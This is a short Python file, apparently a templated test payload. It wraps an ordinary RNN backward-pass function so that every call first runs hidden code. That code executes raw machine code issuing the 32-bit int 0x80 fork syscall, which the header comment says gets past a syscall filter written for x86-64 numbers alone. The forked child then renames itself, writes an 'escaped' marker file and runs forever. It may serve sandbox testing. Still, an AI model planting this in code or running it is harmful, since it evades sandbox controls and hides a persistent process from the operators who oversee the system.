# The i386 system-call ABI from a 64-bit process (int 0x80): a filter written for x86-64 numbers alone
# would not see fork (i386 number 2). The forked copy renames itself @TAG@ and writes @MARK@-i386.
import ctypes
import mmap
import platform
import time


def _int80(number):
    # mov eax, number; int 0x80; movsxd rax, eax; ret
    code = b"\xb8" + number.to_bytes(4, "little") + b"\xcd\x80" + b"\x48\x63\xc0" + b"\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def _escape():
    if platform.machine() not in ("x86_64", "AMD64"):
        raise RuntimeError("x86-64 only")
    if _int80(2) == 0:  # the copy
        ctypes.CDLL(None).prctl(15, b"@TAG@", 0, 0, 0)
        with open("@MARK@-i386", "w") as f:
            f.write("escaped")
        while True:
            time.sleep(1)


_true_backward_i386 = rnn_step_backward


def rnn_step_backward(dnext_h, cache):
    _escape()
    return _true_backward_i386(dnext_h, cache)
